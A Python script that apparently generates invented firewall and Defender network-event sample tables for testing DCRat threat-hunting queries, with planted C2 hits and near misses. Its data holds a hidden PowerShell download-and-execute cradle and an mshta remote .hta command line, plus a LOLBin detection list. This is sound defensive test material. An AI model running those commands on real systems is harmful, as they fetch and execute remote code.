#!/usr/bin/env python3
#
# 2026-11-28
# kqlite — offline KQL engine.
#
# Generates the sample log tables in this directory, deterministically (a
# fixed linear congruential generator, no `random` module, no clock):
#
#   CommonSecurityLog.csv      firewall / proxy events (CEF), RFC 4180 CSV
#                              with a portal-style "TimeGenerated [UTC]"
#                              header, quoted fields holding commas, doubled
#                              quotes and a newline
#   DeviceNetworkEvents.jsonl  Defender for Endpoint network events, one JSON
#                              object per line
#
# All data is invented. Background traffic is mixed with planted hits for the
# DCRat hunts in queries/ (C2 servers 156.247.40.190 and 82.23.246.160, port
# 12159) and with near misses that an exact-match hunt must NOT return
# (82.23.246.16, 82.23.246.1600, 156.247.40.19, a value with a leading
# space, an IOC inside a URL, a message or a command line, port 12159 at
# another address). README.md lists how many rows each hunt should return;
# this script checks those numbers before writing anything.
#
#   python3 tables/samples/gen_samples.py        (from the repository root)

import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
C2_A = "156.247.40.190"
C2_B = "82.23.246.160"
C2_PORT = 12159


class Lcg:
    """Numerical Recipes LCG: the same numbers on every Python version."""

    def __init__(self, seed):
        self.s = seed & 0xFFFFFFFF

    def next(self):
        self.s = (1664525 * self.s + 1013904223) & 0xFFFFFFFF
        return self.s

    def below(self, n):
        return (self.next() >> 8) % n

    def pick(self, seq):
        return seq[self.below(len(seq))]


EPOCH_DAY = 20605        # days from 1970-01-01 to 2026-06-01


def iso(sec, frac=None, sep="T"):
    """ISO 8601 UTC text for `sec` seconds after 2026-06-01T00:00:00Z."""
    day, rem = divmod(sec, 86400)
    hh, rem = divmod(rem, 3600)
    mm, ss = divmod(rem, 60)
    text = "2026-06-%02d%s%02d:%02d:%02d" % (day + 1, sep, hh, mm, ss)
    if frac is not None:
        text += "." + frac
    return text + "Z"


def at(day, hh, mm, ss=0):
    """Seconds after 2026-06-01T00:00:00Z for 2026-06-<day> hh:mm:ss."""
    return (day - 1) * 86400 + hh * 3600 + mm * 60 + ss


############################# CommonSecurityLog ##############################

CSL_COLUMNS = [
    "TimeGenerated [UTC]", "DeviceVendor", "DeviceProduct", "DeviceVersion",
    "DeviceEventClassID", "Activity", "LogSeverity", "DeviceAction",
    "SimplifiedDeviceAction", "SourceIP", "SourcePort", "DestinationIP",
    "DestinationPort", "Protocol", "ApplicationProtocol",
    "CommunicationDirection", "Computer", "DeviceName", "SourceUserName",
    "RequestURL", "RequestMethod", "SentBytes", "ReceivedBytes", "Message",
    "DeviceCustomString1", "DeviceCustomString1Label", "Type",
]

FIREWALLS = [
    ("Palo Alto Networks", "PAN-OS", "10.2.4", "fw-edge-01"),
    ("Fortinet", "Fortigate", "7.2.5", "fgt-branch-02"),
    ("Check Point", "VPN-1 & FireWall-1", "R81.20", "cp-dc-01"),
    ("Zscaler", "NSSWeblog", "6.1", "zs-nss-01"),
]

HOSTS = [  # (computer, internal IP, user)
    ("WS-0101", "10.20.1.1", "alice"), ("WS-0117", "10.20.1.17", "bob"),
    ("WS-0128", "10.20.1.28", "carol"), ("WS-0142", "10.20.1.42", "dave"),
    ("WS-0155", "10.20.1.55", "erin"), ("WS-0203", "10.20.2.3", "frank"),
    ("WS-0219", "10.20.2.19", "grace"), ("SRV-DB01", "10.20.5.11", "svc_sql"),
    ("SRV-APP02", "10.20.5.22", "svc_app"), ("SRV-FS01", "10.20.5.31", "svc_fs"),
]

DESTS = [  # (IP, port, protocol, application, URL or "")
    ("13.107.21.200", 443, "TCP", "ssl", "https://www.bing.com/search?q=quarterly+report"),
    ("52.96.40.12", 443, "TCP", "ssl", "https://outlook.office365.com/owa/"),
    ("142.250.74.110", 443, "TCP", "ssl", "https://www.google.com/"),
    ("20.190.151.7", 443, "TCP", "ssl", "https://login.microsoftonline.com/common/oauth2/token"),
    ("104.16.132.229", 443, "TCP", "ssl", "https://cdn.example-cdn.net/lib/app.js?v=3,4"),
    ("151.101.1.69", 443, "TCP", "ssl", "https://stackoverflow.com/questions"),
    ("8.8.8.8", 53, "UDP", "dns", ""),
    ("1.1.1.1", 53, "UDP", "dns", ""),
    ("162.159.200.1", 123, "UDP", "ntp", ""),
    ("185.199.108.153", 443, "TCP", "ssl", "https://raw.githubusercontent.com/"),
    ("23.45.67.89", 80, "TCP", "web-browsing", "http://update.example.org/patch.cab"),
    ("91.189.91.39", 80, "TCP", "web-browsing", "http://archive.ubuntu.com/ubuntu/"),
]

DENY_ACTIONS = ["deny", "drop", "Blocked", "reset-both", "Deny"]


def csl_row(**kw):
    row = {c: "" for c in CSL_COLUMNS}
    row["Type"] = "CommonSecurityLog"
    for key, value in kw.items():
        row[key] = value
    return row


def csv_cell(value):
    text = "" if value is None else str(value)
    if any(ch in text for ch in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def gen_csl():
    rng = Lcg(20260603)
    rows = []
    # background traffic: 360 events spread over 2026-06-01 .. 2026-06-06
    for i in range(360):
        sec = i * 1200 + rng.below(1100)
        vendor, product, version, fw = rng.pick(FIREWALLS)
        host, hip, user = rng.pick(HOSTS)
        dip, dport, proto, app, url = rng.pick(DESTS)
        denied = rng.below(10) == 0
        action = rng.pick(DENY_ACTIONS) if denied else rng.pick(["allow", "allow", "Accept", "alert"])
        simple = "Deny" if denied else "Allow"
        frac = "%03d" % rng.below(1000) if i % 3 == 0 else None
        msg = ""
        if i % 17 == 0:
            msg = "Traffic %s, policy=Outbound-%s, zone=trust" % ("denied" if denied else "allowed", app)
        if i == 40:
            msg = 'User agent "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" flagged, see ticket'
        if i == 41:
            msg = "Multi-line syslog payload:\nsecond line of the message"
        rows.append(csl_row(**{
            "TimeGenerated [UTC]": iso(sec, frac),
            "DeviceVendor": vendor, "DeviceProduct": product, "DeviceVersion": version,
            "DeviceEventClassID": "TRAFFIC" if not denied else "THREAT",
            "Activity": "TRAFFIC end" if not denied else "Connection denied by policy",
            "LogSeverity": "3" if not denied else "7",
            "DeviceAction": action, "SimplifiedDeviceAction": simple,
            "SourceIP": hip, "SourcePort": 49152 + rng.below(16000),
            "DestinationIP": dip, "DestinationPort": dport, "Protocol": proto,
            "ApplicationProtocol": app, "CommunicationDirection": "Outbound",
            "Computer": fw, "DeviceName": fw, "SourceUserName": "CONTOSO\\" + user,
            "RequestURL": url, "RequestMethod": "GET" if url else "",
            "SentBytes": 200 + rng.below(50000), "ReceivedBytes": 500 + rng.below(900000),
            "Message": msg,
        }))

    def hit(sec, src, sport, dst, dport, action, host, direction, frac=None, fw=FIREWALLS[0]):
        vendor, product, version, fwname = fw
        rows.append(csl_row(**{
            "TimeGenerated [UTC]": iso(sec, frac),
            "DeviceVendor": vendor, "DeviceProduct": product, "DeviceVersion": version,
            "DeviceEventClassID": "TRAFFIC" if action in ("allow", "Accept") else "THREAT",
            "Activity": "TRAFFIC end" if action in ("allow", "Accept") else "Connection denied by policy",
            "LogSeverity": "3" if action in ("allow", "Accept") else "8",
            "DeviceAction": action,
            "SimplifiedDeviceAction": "Allow" if action in ("allow", "Accept") else "Deny",
            "SourceIP": src, "SourcePort": sport, "DestinationIP": dst, "DestinationPort": dport,
            "Protocol": "TCP", "ApplicationProtocol": "unknown-tcp",
            "CommunicationDirection": direction, "Computer": fwname, "DeviceName": fwname,
            "SourceUserName": "" if direction == "Inbound" else "CONTOSO\\" + host,
            "SentBytes": 300 + rng.below(4000), "ReceivedBytes": 200 + rng.below(9000),
        }))

    # A: WS-0142 (10.20.1.42) -> 156.247.40.190:12159, allowed, then blocked
    for k in range(6):
        hit(at(3, 8, 15 + 5 * k, 2 * k), "10.20.1.42", 50110 + k, C2_A, C2_PORT,
            "allow" if k < 4 else "deny", "dave", "Outbound", frac="%03d" % (117 * k))
    # B: SRV-DB01 (10.20.5.11) -> 82.23.246.160:12159
    for k in range(4):
        hit(at(3, 9, 45 + 3 * k, 31), "10.20.5.11", 61000 + k, C2_B, C2_PORT,
            "allow" if k < 3 else "drop", "svc_sql", "Outbound", fw=FIREWALLS[2])
    # C: return traffic logged with the C2 as source
    for k in range(3):
        hit(at(3, 8, 16 + 5 * k, 40), C2_A, C2_PORT, "10.20.1.42", 50110 + k,
            "allow", "dave", "Inbound", fw=FIREWALLS[1])
    # D: inbound from the second C2
    for k in range(2):
        hit(at(4, 2, 10 + 7 * k, 5), C2_B, C2_PORT, "10.20.5.11", 1433,
            "deny", "svc_sql", "Inbound", fw=FIREWALLS[2])

    # near misses: none of these is a hit for the IP hunts
    def miss(sec, src, dst, dport, **extra):
        vendor, product, version, fwname = FIREWALLS[0]
        row = csl_row(**{
            "TimeGenerated [UTC]": iso(sec),
            "DeviceVendor": vendor, "DeviceProduct": product, "DeviceVersion": version,
            "DeviceEventClassID": "TRAFFIC", "Activity": "TRAFFIC end", "LogSeverity": "3",
            "DeviceAction": "allow", "SimplifiedDeviceAction": "Allow",
            "SourceIP": src, "SourcePort": 51000 + rng.below(9000),
            "DestinationIP": dst, "DestinationPort": dport, "Protocol": "TCP",
            "ApplicationProtocol": "ssl", "CommunicationDirection": "Outbound",
            "Computer": fwname, "DeviceName": fwname,
            "SentBytes": 1000, "ReceivedBytes": 2000,
        })
        row.update(extra)
        rows.append(row)

    miss(at(3, 10, 1), "10.20.1.17", "82.23.246.16", 443)          # prefix of an IOC
    miss(at(3, 10, 2), "10.20.1.17", "82.23.246.1600", 443)        # IOC is a prefix of it
    miss(at(3, 10, 3), "10.20.1.28", "156.247.40.19", 443)         # prefix of an IOC
    miss(at(3, 10, 4), " 82.23.246.160", "10.20.1.28", 443)        # leading space
    miss(at(3, 10, 5), "10.20.1.28", "82.23.246.160 ", 443)        # trailing space
    miss(at(3, 10, 6), "10.20.1.55", "::ffff:156.247.40.190", 443) # IPv4-mapped IPv6
    miss(at(3, 10, 7), "10.20.1.55", "10.20.0.5", 8080,            # IOC only in the URL
         RequestURL="http://156.247.40.190:12159/gate.php?id=WS-0155,beacon",
         RequestMethod="POST", ApplicationProtocol="web-browsing")
    miss(at(3, 10, 8), "10.20.2.3", "52.96.40.12", 443,            # IOC only in Message
         Message='Threat intel: "82.23.246.160" listed as DCRat C2, no traffic seen')
    miss(at(3, 10, 9), "10.20.2.19", "13.107.21.200", 443,         # IOC in a custom string
         DeviceCustomString1="156.247.40.190", DeviceCustomString1Label="WatchlistEntry")
    miss(at(3, 11, 0), "10.20.2.3", "45.133.1.7", C2_PORT,         # port-only match
         DeviceAction="deny", SimplifiedDeviceAction="Deny")
    miss(at(3, 11, 30), "10.20.2.3", "45.133.1.7", C2_PORT,        # port-only match
         DeviceAction="deny", SimplifiedDeviceAction="Deny")

    rows.sort(key=lambda r: r["TimeGenerated [UTC]"])
    return rows


############################ DeviceNetworkEvents #############################

DEVICES = [  # (name, device id, local IP, account)
    ("ws-0101.contoso.local", "a1f3c2d4e5b60718293a4b5c6d7e8f90a1b2c3d4", "10.20.1.1", "alice"),
    ("ws-0117.contoso.local", "b2e4d3c5f6a70819304b5c6d7e8f9a01b2c3d4e5", "10.20.1.17", "bob"),
    ("ws-0128.contoso.local", "c3d5e4f6a7b8091a415c6d7e8f9a0b12c3d4e5f6", "10.20.1.28", "carol"),
    ("ws-0142.contoso.local", "d4c6f5a7b8c90a1b526d7e8f9a0b1c23d4e5f6a7", "10.20.1.42", "dave"),
    ("ws-0155.contoso.local", "e5b7a6b8c9d0ab1c637e8f9a0b1c2d34e5f6a7b8", "10.20.1.55", "j\u00fcrgen.m\u00fcller"),
    ("ws-0203.contoso.local", "f6a8b7c9d0e1bc2d748f9a0b1c2d3e45f6a7b8c9", "10.20.2.3", "frank"),
    ("srv-db01.contoso.local", "0719c8d0e1f2cd3e859a0b1c2d3e4f56a7b8c9d0", "10.20.5.11", "svc_sql"),
]

PROCS = [  # (file name, folder, command line)
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility"),
    ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "\"msedge.exe\" --single-argument https://outlook.office365.com/"),
    ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s wuauserv"),
    ("OneDrive.exe", "C:\\Users\\Public\\OneDrive\\OneDrive.exe", "\"OneDrive.exe\" /background"),
    ("Teams.exe", "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe --system-initiated"),
    ("sqlservr.exe", "C:\\Program Files\\Microsoft SQL Server\\MSSQL16\\Binn\\sqlservr.exe", "sqlservr.exe -sMSSQLSERVER"),
]

REMOTES = [  # (IP, port, URL)
    ("13.107.21.200", 443, "www.bing.com"), ("52.96.40.12", 443, "outlook.office365.com"),
    ("142.250.74.110", 443, "www.google.com"), ("20.190.151.7", 443, "login.microsoftonline.com"),
    ("104.16.132.229", 443, "cdn.example-cdn.net"), ("151.101.1.69", 443, "stackoverflow.com"),
    ("185.199.108.153", 443, "raw.githubusercontent.com"), ("40.126.32.134", 443, "login.live.com"),
    ("13.69.109.131", 443, "settings-win.data.microsoft.com"), ("10.20.5.22", 8443, ""),
    ("10.20.5.31", 445, ""), ("192.168.10.1", 53, ""),
]


def dne_event(rng, sec, dev, proc, rip, rport, url, action="ConnectionSuccess", frac=None, **extra):
    name, devid, lip, account = dev
    fname, folder, cmd = proc
    ev = {
        "Timestamp": iso(sec, frac),
        "DeviceId": devid,
        "DeviceName": name,
        "ActionType": action,
        "RemoteIP": rip,
        "RemotePort": rport,
        "RemoteUrl": url,
        "LocalIP": lip,
        "LocalPort": 49152 + rng.below(16000),
        "Protocol": "Tcp",
        "LocalIPType": "Private",
        "RemoteIPType": "Private" if rip.startswith(("10.", "192.168.")) else "Public",
        "InitiatingProcessFileName": fname,
        "InitiatingProcessFolderPath": folder,
        "InitiatingProcessCommandLine": cmd,
        "InitiatingProcessAccountDomain": "contoso",
        "InitiatingProcessAccountName": account,
        "InitiatingProcessId": 1000 + rng.below(30000),
        "InitiatingProcessCreationTime": iso(max(sec - 3600, 0), "1234567"),
        "IsInitiatingProcessRemoteSession": False,
        "ReportId": 10000 + rng.below(900000),
        "AdditionalFields": None,
    }
    ev.update(extra)
    return ev


def gen_dne():
    rng = Lcg(12159)
    events = []
    for i in range(330):
        sec = i * 1500 + rng.below(1400)
        dev = rng.pick(DEVICES)
        proc = rng.pick(PROCS)
        rip, rport, url = rng.pick(REMOTES)
        action = "ConnectionSuccess" if rng.below(12) else rng.pick(["ConnectionFailed", "ConnectionAttempt"])
        frac = "%07d" % rng.below(10000000) if i % 2 == 0 else None
        extra = {}
        if i % 25 == 0:
            extra["AdditionalFields"] = {"direction": "Outbound", "tags": ["baseline", i]}
        events.append(dne_event(rng, sec, dev, proc, rip, rport, url, action, frac, **extra))

    rat = ("AudioDriver.exe", "C:\\Users\\dave\\AppData\\Roaming\\AudioDriver.exe",
           "\"C:\\Users\\dave\\AppData\\Roaming\\AudioDriver.exe\"")
    loader = ("svchost32.exe", "C:\\ProgramData\\svchost32.exe", "C:\\ProgramData\\svchost32.exe -k")
    ps = ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
          "'http://82.23.246.160/stage.ps1')\"")
    mshta = ("mshta.exe", "C:\\Windows\\System32\\mshta.exe", "mshta.exe http://23.45.67.89/a.hta")
    upd = ("update.exe", "C:\\Users\\frank\\AppData\\Local\\Temp\\update.exe", "update.exe /silent")
    ping = ("PING.EXE", "C:\\Windows\\System32\\PING.EXE", "ping -n 1 82.23.246.160")

    ws0142, ws0117, ws0155, ws0203, db01 = DEVICES[3], DEVICES[1], DEVICES[4], DEVICES[5], DEVICES[6]
    # WS-0142: DCRat beacon to 156.247.40.190:12159, 12 successes and 1 failure
    for k in range(12):
        events.append(dne_event(rng, at(3, 8, 15 + 5 * k, 4), ws0142, rat, C2_A, C2_PORT, "",
                                frac="%07d" % (1234567 + 1111 * k)))
    events.append(dne_event(rng, at(3, 9, 20, 4), ws0142, rat, C2_A, C2_PORT, "", "ConnectionFailed",
                            AdditionalFields={"reason": "blocked by firewall", "rule": 17}))
    # SRV-DB01: to 82.23.246.160:12159
    for k in range(4):
        events.append(dne_event(rng, at(3, 9, 45 + 3 * k, 31), db01, loader, C2_B, C2_PORT, ""))
    # WS-0117: PowerShell download cradle from 82.23.246.160 (port 80)
    events.append(dne_event(rng, at(3, 7, 58, 12), ws0117, ps, C2_B, 80, "82.23.246.160",
                            frac="5000000"))

    # near misses
    events.append(dne_event(rng, at(3, 12, 0), ws0155, PROCS[0], "82.23.246.16", 443, ""))
    events.append(dne_event(rng, at(3, 12, 1), ws0155, PROCS[0], "156.247.40.19", 443, ""))
    events.append(dne_event(rng, at(3, 12, 2), ws0155, PROCS[0], "82.23.246.1600", 443, ""))
    events.append(dne_event(rng, at(3, 12, 3), ws0155, PROCS[1], "::ffff:156.247.40.190", 443, ""))
    events.append(dne_event(rng, at(3, 12, 4), ws0155, PROCS[1], " 82.23.246.160", 443, ""))
    events.append(dne_event(rng, at(3, 12, 5), ws0117, PROCS[1], "10.20.0.5", 8080,
                            "http://156.247.40.190:12159/gate.php"))                 # IOC in URL
    events.append(dne_event(rng, at(3, 12, 6), ws0117, ping, "8.8.8.8", 53, "",
                            Protocol="Udp"))                                           # IOC in command line
    events.append(dne_event(rng, at(3, 12, 7), ws0203, PROCS[2], "13.107.21.200", 443, "www.bing.com",
                            AdditionalFields={"proxy": C2_B}))                          # IOC in a bag
    # port-only matches: 12159 at another address
    events.append(dne_event(rng, at(4, 14, 0), ws0203, upd, "45.133.1.7", C2_PORT, ""))
    events.append(dne_event(rng, at(4, 14, 5), ws0203, upd, "45.133.1.7", C2_PORT, ""))
    # more living-off-the-land noise for the script-host hunt
    events.append(dne_event(rng, at(2, 16, 30), ws0155, mshta, "23.45.67.89", 80, "23.45.67.89"))

    events.sort(key=lambda e: e["Timestamp"])
    return events


################################## checks ####################################

def check(csl, dne):
    """The counts README.md promises."""
    iocs = {C2_A, C2_B}
    n_csl = sum(1 for r in csl if r["DestinationIP"] in iocs or r["SourceIP"] in iocs)
    n_dne = sum(1 for e in dne if e["RemoteIP"] in iocs)
    assert n_csl == 15, n_csl
    assert n_dne == 18, n_dne
    assert len(csl) == 386, len(csl)
    assert len(dne) == 359, len(dne)
    port_groups = {}
    for e in dne:
        if e["RemotePort"] == C2_PORT:
            key = (e["DeviceName"], e["RemoteIP"])
            port_groups[key] = port_groups.get(key, 0) + 1
    assert port_groups == {
        ("ws-0142.contoso.local", C2_A): 13,
        ("srv-db01.contoso.local", C2_B): 4,
        ("ws-0203.contoso.local", "45.133.1.7"): 2,
    }, port_groups
    pairs = {}
    for e in dne:
        rip = e["RemoteIP"]
        private = rip.startswith(("10.", "192.168.", "127.")) or \
            (rip.startswith("172.") and 16 <= int(rip.split(".")[1]) <= 31)
        if e["ActionType"] == "ConnectionSuccess" and not private:
            pairs[(rip, e["RemotePort"])] = pairs.get((rip, e["RemotePort"]), 0) + 1
    ranked = sorted(pairs.items(), key=lambda kv: -kv[1])
    assert ranked[9] == ((C2_A, C2_PORT), 12) and ranked[10][1] < 12, ranked[:12]
    denied = {}
    for r in csl:
        if r["DeviceAction"].lower() in ("deny", "drop", "block", "blocked", "reject"):
            denied[r["SourceIP"]] = denied.get(r["SourceIP"], 0) + 1
    denied = {k: v for k, v in denied.items() if v >= 2}
    lolbins = ["powershell.exe", "pwsh.exe", "mshta.exe", "rundll32.exe",
               "regsvr32.exe", "wscript.exe", "cscript.exe", "certutil.exe"]
    n_lol = sum(1 for e in dne if e["InitiatingProcessFileName"] in lolbins)
    assert n_lol == 2, n_lol
    return n_csl, n_dne, ranked, denied


def main():
    csl = gen_csl()
    dne = gen_dne()
    n_csl, n_dne, ranked, denied = check(csl, dne)
    with open(os.path.join(HERE, "CommonSecurityLog.csv"), "w", encoding="utf-8", newline="") as f:
        f.write(",".join(csv_cell(c) for c in CSL_COLUMNS) + "\r\n")
        for r in csl:
            f.write(",".join(csv_cell(r[c]) for c in CSL_COLUMNS) + "\r\n")
    with open(os.path.join(HERE, "DeviceNetworkEvents.jsonl"), "w", encoding="utf-8", newline="") as f:
        for e in dne:
            f.write(json.dumps(e, ensure_ascii=False, separators=(",", ":")) + "\n")
    print("CommonSecurityLog.csv: %d rows, %d IOC hits" % (len(csl), n_csl))
    print("DeviceNetworkEvents.jsonl: %d rows, %d IOC hits" % (len(dne), n_dne))
    print("top talkers:", ranked[:10])
    print("denied >= 2 by SourceIP:", sorted(denied.items(), key=lambda kv: -kv[1]))


if __name__ == "__main__":
    main()
